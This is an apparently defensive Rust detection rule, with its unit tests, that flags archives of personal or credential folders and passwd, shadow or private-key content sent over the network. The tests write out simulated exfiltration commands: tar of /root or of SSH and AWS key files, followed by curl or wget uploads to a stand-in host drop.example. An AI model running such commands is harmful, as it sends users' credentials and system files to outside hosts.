//! Sees files packed and carried out.
//!
//! - Sees: an archive of personal or system folders made and then sent, or streamed straight to a connection; a password or shadow file in what is sent.
//! - Misses: what is encrypted before it is sent.
//! - False alarms: backup jobs do the same with their own data, so only folders that are no service's data count, and as a draft; account files
//!   in what is sent have no honest reason.
//! - Source: ATT&CK T1560.001, T1048.003, T1041, T1003.008.

use std::{collections::BTreeSet, path::Path};

use model::{Category, Confidence, Maturity, Severity, Weight, What};

use crate::{About, Behaviour, Judge, Match, indicators, payload, programs::Program, story::Story};

pub(super) const BEHAVIOUR: Behaviour = Behaviour {
    about: About {
        id: "data-sent-out",
        title: "Carries files out",
        category: Category::CredentialTheft,
        weight: Weight::Sign,
        severity: Severity::High,
        confidence: Confidence::Medium,
        maturity: Maturity::Stable,
        techniques: &["T1560.001", "T1048.003"],
    },
    judge: Judge::Run(judge),
};

/// Folders that are people's or the system's, not a service's data.
const PERSONAL: &[&str] =
    &["/root", "/home", "/etc", "/.ssh", "/.aws", "/.kube", "/.docker", "/.config", "/var/run/secrets", "/run/secrets"];
/// Beginnings of gzip, zip, xz, zstd, bzip2, 7z, and tar's own mark.
const ARCHIVES: &[&[u8]] = &[b"\x1f\x8b", b"PK\x03\x04", b"\xfd7zXZ", b"\x28\xb5\x2f\xfd", b"BZh", b"7z\xbc\xaf"];

fn judge(story: &Story<'_>) -> Vec<Match> {
    let packed = story.programs().find(|program| {
        program.is(&["tar", "zip", "7z", "7za", "cpio", "rar", "bsdtar"])
            && program.arguments.iter().skip(1).any(|argument| {
                PERSONAL.iter().any(|folder| {
                    argument.trim_end_matches('/').ends_with(folder) || argument.starts_with(&format!("{folder}/"))
                })
            })
            && (!program.is(&["tar", "bsdtar"])
                || program.arguments.iter().skip(1).any(|option| {
                    option.starts_with("--create")
                        || !option.starts_with('/') && !option.starts_with("--") && option.contains('c')
                }))
    });
    let mut found = Vec::new();
    let mut budget = payload::Budget::new();
    for (at, event) in story.events() {
        let (flow, head) = match &event.what {
            What::Http { flow, body_head, .. } if !body_head.is_empty() => (*flow, body_head),
            What::FlowEnd { flow, head, service, .. }
                if !head.is_empty() && !matches!(service.as_str(), "http" | "dns" | "tls") =>
            {
                (*flow, head)
            }
            _ => continue,
        };
        let Some(flow) = story.flow(flow).filter(|flow| !flow.inbound && budget.spend()) else { continue };
        let bytes = payload::bytes(head);
        let text = payload::text_and_decoded(head);
        let told =
            |what: &str| Match::new(at, format!("sends {what} to {}", flow.host())).with([indicators::host(flow)]);
        let shadow =
            text.contains("root:$") && text.contains(":99999:") || text.contains("root:*:") && text.contains(":99999:");
        let accounts = text.contains("root:x:0:0:") && text.contains("daemon:x:1:1:");
        if shadow {
            found.push(told("the file of passwords").proof());
        } else if accounts {
            found.push(told("the list of accounts"));
        } else if text.contains("-----BEGIN") && text.contains("PRIVATE KEY-----") {
            found.push(told("a private key").proof());
        } else if let Some(packed) = packed.filter(|packed| packed.at < at && is_sent(story, packed, at))
            && (ARCHIVES.iter().any(|mark| bytes.windows(mark.len().max(1)).take(1_024).any(|window| window == *mark))
                || bytes.get(257..262) == Some(b"ustar"))
        {
            let told = told(&format!("an archive, after {}", model::text::shortened(&packed.line(), 80)));
            // A backup takes folders; who names keys one by one wants the keys.
            found.push(if named_kinds(story, &packed) >= 2 { told.proof() } else { told.draft() });
        }
        if found.len() >= 8 {
            break;
        }
    }
    found
}

/// How many kinds of decoy credentials the packer was told to take by name.
fn named_kinds(story: &Story<'_>, packed: &Program<'_>) -> usize {
    let named = |canary: &&model::Canary| canary.path.as_ref().is_some_and(|path| packed.arguments.contains(path));
    story.trace.head.canaries.iter().filter(named).map(|canary| &canary.kind).collect::<BTreeSet<_>>().len()
}

/// Whether what was packed is what is sent: by its name, or through a pipe.
fn is_sent(story: &Story<'_>, packed: &Program<'_>, at: usize) -> bool {
    let Some(sender) = story.life_at(at) else { return true };
    let is_output =
        |argument: &&String| argument.starts_with('/') && !PERSONAL.iter().any(|folder| argument.contains(folder));
    let line = story.program(at).map(|program| program.line()).unwrap_or_default();
    let named = packed.arguments.iter().skip(1).filter(is_output).any(|output| line.contains(output.as_str()));
    let reads = story.life(sender).is_some_and(|of| {
        of.reads.iter().rev().take(256).any(|read| match story.what(*read) {
            Some(What::Open { path, .. }) => {
                packed.arguments.iter().skip(1).any(|argument| Path::new(path).ends_with(argument))
            }
            _ => false,
        })
    });
    let piped =
        story.piped_from(sender).into_iter().any(|other| story.own_programs(other).any(|other| other.at == packed.at));
    named || reads || piped
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Run, hit, miss};

    #[test]
    fn an_archive_of_a_home() {
        let mut run = Run::new();
        run.spawn(1, "/bin/tar", &["tar", "czf", "/tmp/o.tgz", "/root"]);
        let curl = run.spawn(1, "/usr/bin/curl", &["curl", "-F", "f=@/tmp/o.tgz", "http://drop.example/u"]);
        run.http_with(curl, "POST", "http://drop.example/u", "empty", b"\x1f\x8b\x08\x00abc", None);
        hit(&BEHAVIOUR, run, Weight::Sign, "sends an archive, after tar czf /tmp/o.tgz /root to drop.example");
    }

    #[test]
    fn keys_that_were_named_one_by_one() {
        let mut run = Run::new();
        let files = ["/root/.ssh/id_rsa", "/root/.aws/credentials"];
        run.spawn(1, "/usr/bin/busybox", &["tar", "-czf", ".a.tgz", files[0], files[1]]);
        let sender = run.spawn(1, "/usr/bin/busybox", &["wget", "--post-file=/tmp/.a.tgz", "http://drop.example/u"]);
        run.read(sender, "/tmp/.a.tgz");
        run.http_with(sender, "POST", "http://drop.example/u", "empty", b"\x1f\x8b\x08", None);
        hit(&BEHAVIOUR, run, Weight::Proof, "sends an archive, after tar -czf .a.tgz /root/.ssh/id_rsa");
    }

    #[test]
    fn accounts_and_passwords() {
        let mut run = Run::new();
        run.flow(1, "203.0.113.7:4444", None, "sink", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon");
        hit(&BEHAVIOUR, run, Weight::Sign, "the list of accounts");
        let mut run = Run::new();
        run.http_with(1, "POST", "http://drop.example/u", "empty", b"root:$6$abc$def:19000:0:99999:7:::", None);
        hit(&BEHAVIOUR, run, Weight::Proof, "the file of passwords");
    }

    #[test]
    fn a_backup_of_a_database_is_none() {
        let mut run = Run::new();
        run.spawn(1, "/bin/tar", &["tar", "czf", "/tmp/db.tgz", "/var/lib/postgresql/data"]);
        run.http_with(1, "PUT", "https://bucket.s3.amazonaws.com/db.tgz", "empty", b"\x1f\x8b\x08\x00abc", None);
        miss(&BEHAVIOUR, run);
    }

    #[test]
    fn telemetry_and_uploads_are_none() {
        let mut run = Run::new();
        run.http_with(1, "POST", "https://metrics.example/v1", "json", b"\x1f\x8b\x08\x00zzz", None);
        run.http_with(1, "POST", "https://ca.example/csr", "json", b"-----BEGIN CERTIFICATE REQUEST-----", None);
        miss(&BEHAVIOUR, run);
    }
}
